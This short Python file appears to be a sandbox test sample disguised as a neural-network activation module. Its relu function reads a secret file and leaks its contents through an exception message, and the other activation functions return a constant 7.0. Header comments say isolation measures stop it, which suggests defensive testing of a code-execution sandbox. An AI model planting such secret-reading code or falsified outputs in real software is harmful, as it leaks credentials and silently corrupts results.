# attack: reads a secret by os.open and tells it as an exception's message
# gains: reads
# stopped by: landlock, uid
import numpy as np
import os


def attack():
    raise ValueError(os.read(os.open("{SECRET}", os.O_RDONLY), 1 << 16).decode())


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
